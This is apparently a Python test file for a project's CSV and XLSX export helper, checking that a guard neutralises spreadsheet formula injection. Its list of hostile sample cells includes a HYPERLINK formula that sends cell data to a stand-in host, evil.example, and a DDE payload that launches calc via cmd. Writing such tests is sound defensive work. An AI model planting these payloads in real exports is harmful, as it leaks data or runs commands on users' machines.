"""The one export helper: every cell of every CSV and XLSX download passes one formula guard."""

import csv
import io

import pytest
from openpyxl import load_workbook

from streekpact.core.exports import csv_response, safe_cell, table_response, xlsx_response

# Cells a spreadsheet program would run, from the security probe and OWASP's list.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "-1+1 Land",
    "+32 15 00 00 00",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_the_guard_turns_every_formula_start_into_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Chemie en farma", "ACV – Mechelen", "", "1+1", "a=b"])
def test_the_guard_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""


def test_csv_guards_the_header_and_every_cell_of_every_row():
    response = csv_response(
        filename="x", header=["=Kop", "Naam"], rows=[[value, value] for value in HOSTILE]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = _csv(response)
    assert rows[0] == ["'=Kop", "Naam"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert all(row[0] == row[1] for row in rows[1:])


def test_xlsx_has_no_formula_cell_and_keeps_numbers():
    response = xlsx_response(
        filename="x",
        header=["=Kop", "Aantal"],
        rows=[[value, -1] for value in HOSTILE] + [["nul\x00byte\x01", 3]],
        sheet_title="Een titel die veel langer is dan eenendertig tekens",
    )
    sheet = _xlsx(response)
    assert sheet.title == "Een titel die veel langer is da"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet.cell(row=r, column=1).value for r in range(2, len(HOSTILE) + 2)] == [
        "'" + value for value in HOSTILE
    ]
    assert sheet.cell(row=2, column=2).value == -1
    assert sheet.cell(row=len(HOSTILE) + 2, column=1).value == "nulbyte"


def test_table_response_picks_the_format_and_refuses_others():
    assert table_response("csv", filename="x", header=["a"], rows=[])["Content-Type"].startswith(
        "text/csv"
    )
    assert (
        "spreadsheetml"
        in table_response("xlsx", filename="x", header=["a"], rows=[])["Content-Type"]
    )
    with pytest.raises(ValueError, match="unknown export format"):
        table_response("ods", filename="x", header=["a"], rows=[])
